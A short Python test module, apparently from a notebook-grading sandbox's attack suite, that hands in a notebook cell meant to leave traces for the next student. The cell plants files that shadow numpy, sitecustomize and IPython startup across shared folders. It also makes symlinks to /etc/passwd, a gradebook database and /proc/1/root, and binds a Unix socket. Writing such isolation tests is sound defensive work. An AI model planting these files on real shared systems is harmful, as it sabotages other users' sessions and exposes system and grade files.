"""Leaves files, links, sockets and a module for the next student in every folder that it may write.

The private folder goes with the session; the last of the class finds it empty.
"""

from attacks import Files, Notebook, with_cell

KIND = "leftovers"

CELL = r"""
import os, socket
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp"):
    for name in ("numpy.py", "convlab.py", "sitecustomize.py", "left-by-an-attack", ".ipython/profile_default/startup/00-left-by-an-attack.py", ".config/matplotlib/matplotlibrc"):
        try:
            path = os.path.join(place, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write("raise SystemExit('from an earlier student')")
        except OSError:
            pass
    for target in ("/etc/passwd", "../../../gradebook.db", "/proc/1/root", "conv1d.ipynb"):
        try:
            os.symlink(target, os.path.join(place, f"left-by-an-attack-{os.path.basename(target)}"))
        except OSError:
            pass
listener = socket.socket(socket.AF_UNIX)
try:
    listener.bind("/tmp/left-by-an-attack-socket")
    listener.listen()
except OSError:
    pass
"""


def hand_in(notebook: Notebook) -> Files:
    return with_cell(notebook, CELL)
